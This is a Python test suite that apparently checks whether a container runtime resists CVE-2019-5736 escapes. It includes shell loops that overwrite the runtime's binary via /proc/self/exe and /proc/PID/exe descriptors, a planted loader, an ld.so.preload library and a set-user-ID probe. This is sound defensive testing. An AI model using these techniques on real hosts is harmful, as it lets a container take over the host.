"""CVE-2019-5736: the runtime's own file, reached from a container through /proc/self/exe."""

import contextlib
import fcntl
import hashlib
import os
import pathlib
import re
import shutil
import subprocess

import pytest

import attacks
import harness
from attacks import escaped

SEALED = ("where a user in the container could write to it, runsafe first executes itself from a "
          "read-only mount that nobody in the container has rights over")
STUB = ("where the workload's user could write to it, the workload is executed by a stub in sealed "
        "memory; where that is not enough, runsafe first executes itself from a read-only mount")
LOADER = {"x86_64": "lib64/ld-linux-x86-64.so.2", "aarch64": "lib/ld-linux-aarch64.so.1"}

# On descriptor 10 is the file that /proc/self/exe was. While the runtime is running it can not be
# written (ETXTBSY), so more than once.
OVERWRITE = """i=0
while [ $i -lt 15 ]; do
    for way in /proc/self/fd/10 "/probe open:2:@/proc/self/fd/10,513"; do
        case $way in
        /probe*) [ -x /probe ] && $way | grep -q OK && { echo overwritten; exit; } ;;
        *)
            echo hacked 2>/dev/null >$way && { echo overwritten; exit; }
            echo hacked 2>/dev/null >>$way && { echo overwritten; exit; } ;;
        esac
    done
    i=$((i + 1)); sleep 0.02
done
echo gave up
"""


@pytest.fixture
def own_file(runtime):
    """A copy of the runtime that may be spoilt: nothing is left of it as it was, when it is."""
    copy = runtime.own_copy()
    before = hashlib.sha256(copy.read_bytes()).digest()

    def judge(how):
        escaped(hashlib.sha256(copy.read_bytes()).digest() != before, f"overwrote it {how}")
    return judge


def by_interpreter(victim, probe_program):
    victim.file(LOADER[os.uname().machine], probe_program("interpreter").read_bytes(), 0o755)


def by_library(victim, probe_program, program):
    """The image has all that the runtime is linked with, and one library more that is preloaded."""
    for path in re.findall(r"(/\S+) \(0x", subprocess.run(
            ["ldd", program], capture_output=True, text=True, check=False).stdout):
        victim.file(path, pathlib.Path(path).read_bytes(), 0o755)
    victim.file("/evil.so", probe_program("library").read_bytes(), 0o755)
    victim.file("/etc/ld.so.preload", "/evil.so\n")


def prepare(runtime, victim, probe_program, way):
    """Returns the program that makes the kernel execute the runtime inside of the container."""
    if way == "library":
        by_library(victim, probe_program, runtime.program)
    else:
        by_interpreter(victim, probe_program)
    victim.file("/attack", OVERWRITE)
    victim.file("/start", "#!/proc/self/exe --version\n", 0o755)
    (victim.rootfs / "link").symlink_to("/proc/self/exe")
    return {"argument": "/proc/self/exe", "symlink": "/link"}.get(way, "/start")


def end_of(runtime, name):
    """The output of a container that ends by itself."""
    runtime("start", name)
    pid = runtime.state(name)["pid"]
    assert harness.wait_for(lambda: runtime.status(name) == "stopped"), pid
    return runtime.output(name)


WAYS = ["script", "argument", "symlink", "library"]

# The image's loader or library in the runtime's process; a runtime that is linked statically runs
# none of them, and says its version.
WAS_EXECUTED = re.compile("gave up|^runsafe version", re.M)


@pytest.mark.attack("CVE-2019-5736", "the container's program is /proc/self/exe, as argument, by a "
                    "script or a symlink, with a loader or library of the image's that overwrites "
                    "what it is", STUB)
@pytest.mark.parametrize("way", WAYS)
def test_overwriting_the_runtime_by_the_containers_program(runtime, victim, probe_program, own_file,
                                                           way):
    start = prepare(runtime, victim, probe_program, way)
    out = end_of(runtime, runtime.create(victim.args(start, "--version")))
    own_file(f"as {way}")
    # Under oci it is the stub, which has neither a loader nor libraries, and says nothing.
    assert not runtime.ours or (not out if runtime.name == "oci" else WAS_EXECUTED.search(out)), out


@pytest.mark.attack("CVE-2019-5736", "the same as program of exec", SEALED)
@pytest.mark.parametrize("way", WAYS)
def test_overwriting_the_runtime_by_exec(runtime, victim, probe_program, own_file, way):
    start = prepare(runtime, victim, probe_program, way)
    name = runtime.running(victim)
    pid_file = victim.path / "pid"
    done = runtime("exec", "-d", "--pid-file", pid_file, name, start, "--version")
    if done.status == 0 and pid_file.exists():
        with contextlib.suppress(ChildProcessError):
            os.waitpid(int(pid_file.read_text()), 0)
    own_file(f"by exec as {way}")
    out = done.out_path.read_text()
    assert not runtime.ours or WAS_EXECUTED.search(out), out


@pytest.mark.attack("CVE-2019-5736", "a user of the container who is not root, but owns the "
                    "runtime's file on the host, overwrites it", STUB)
@pytest.mark.parametrize("command", ["run", "exec"])
def test_overwriting_the_runtime_that_the_same_user_owns(runtime, victim, probe_program, own_file,
                                                         command):
    os.chown(runtime.program, 1000, 1000)
    start = prepare(runtime, victim, probe_program, "script")
    victim.cap().set("process.user", {"uid": 1000, "gid": 1000})
    if command == "run":
        end_of(runtime, runtime.create(victim.args(start)))
    else:
        runtime("exec", runtime.running(victim), start)
    own_file("as its owner")


@pytest.mark.attack("CVE-2019-5736", "a user keeps the runtime's file open, a set-user-ID program of "
                    "the image writes to it", STUB)
@pytest.mark.parametrize("command", ["run", "exec"])
def test_overwriting_the_runtime_by_a_set_user_id_program(runtime, victim, probe_program, own_file,
                                                          command):
    start = prepare(runtime, victim, probe_program, "script")
    shutil.copy(probe_program("probe"), victim.rootfs / "probe")
    (victim.rootfs / "probe").chmod(0o4755)
    victim.set("process.user", {"uid": 1000, "gid": 1000})
    victim.config["process"]["capabilities"].pop("ambient", None)
    victim.cap()
    if command == "run":
        end_of(runtime, runtime.create(victim.args(start)))
    else:
        runtime("exec", runtime.running(victim), start)
    own_file("by a set-user-ID program")


@pytest.mark.attack("CVE-2019-5736", "a neighbour in the same pid namespace opens /proc/PID/exe of "
                    "the process that waits for its start", SEALED)
def test_overwriting_the_runtime_from_a_neighbour(runtime, victim, new_bundle, own_file):
    first = runtime.create(victim.sh("""echo up
        while :; do for p in /proc/[0-9]*; do
            [ $p = /proc/1 ] || [ ! -e $p/exe ] || exec 10<$p/exe || continue
        done 2>/dev/null; [ ! -e /proc/self/fd/10 ] || break; sleep 0.05; done
        sleep 0.5
        """ + OVERWRITE))
    runtime.start(first)
    pid = runtime.state(first)["pid"]
    other = attacks.usual(new_bundle("other")).namespace("pid", path=f"/proc/{pid}/ns/pid")
    second = runtime.create(other.args("/bin/sleep", "1000"))
    second_pid = runtime.state(second)["pid"]
    harness.wait_for(lambda: runtime.status(first) == "stopped", 1)
    os.kill(second_pid, 9)
    harness.wait_for(lambda: harness.reap() or not os.path.exists(f"/proc/{second_pid}"))
    harness.wait_for(lambda: runtime.status(first) == "stopped", 3)
    own_file("from a neighbour")
    assert "overwritten" not in runtime.output(first)


@pytest.mark.attack("CVE-2019-5736", "the container's root watches for the process that exec brings "
                    "in, and opens its /proc/PID/exe", SEALED)
def test_overwriting_the_runtime_that_exec_brings_in(runtime, victim, own_file):
    """As the exploit did it that was shown first: no program of the container's is executed."""
    name = runtime.create(victim.sh("""echo up
        while :; do for p in /proc/[0-9]*; do
            case $p in /proc/1 | /proc/$$) continue ;; esac
            case $(readlink $p/exe) in "" | */busybox) ;; *) exec 10<$p/exe && break 2 ;; esac
        done 2>/dev/null; done
        """ + OVERWRITE))
    runtime.start(name)
    assert harness.wait_for(lambda: "up" in runtime.output(name))
    for _ in range(12):
        runtime("exec", name, "/bin/true")
    runtime("kill", name, "KILL")
    own_file("from /proc/PID/exe of exec")


@pytest.mark.attack("CVE-2019-5736", "exec is told to execute /proc/self/exe, which waits until the "
                    "container's root has opened its /proc/PID/exe", SEALED)
def test_overwriting_the_runtime_that_exec_executes_again(runtime, victim, own_file):
    """What it would say fits no pipe. That needs no loader and no library of the image's."""
    name = runtime.create(victim.sh("""echo up
        while :; do for p in /proc/[0-9]*; do
            case $p in /proc/1 | /proc/$$) continue ;; esac
            case $(readlink $p/exe) in "" | */busybox) ;; *) exec 10<$p/exe && break 2 ;; esac
        done 2>/dev/null; done
        echo opened
        """ + OVERWRITE))
    runtime.start(name)
    assert harness.wait_for(lambda: "up" in runtime.output(name))
    reader, writer = os.pipe()
    fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 4096)
    os.write(writer, b"x" * 4096)
    waiting = subprocess.Popen(runtime.command("exec", name, "/proc/self/exe", "features"),
                               stdin=subprocess.DEVNULL, stdout=writer, stderr=subprocess.DEVNULL)
    os.close(writer)
    opened = harness.wait_for(lambda: "opened" in runtime.output(name), 3)
    os.close(reader)
    waiting.wait(harness.TIME_LIMIT)
    harness.wait_for(lambda: runtime.status(name) == "stopped", 3)
    own_file("where it was executed again")
    assert "overwritten" not in runtime.output(name)
    assert opened or not runtime.ours, runtime.output(name)
    runtime("kill", name, "KILL")
    runtime.log.unlink(missing_ok=True)
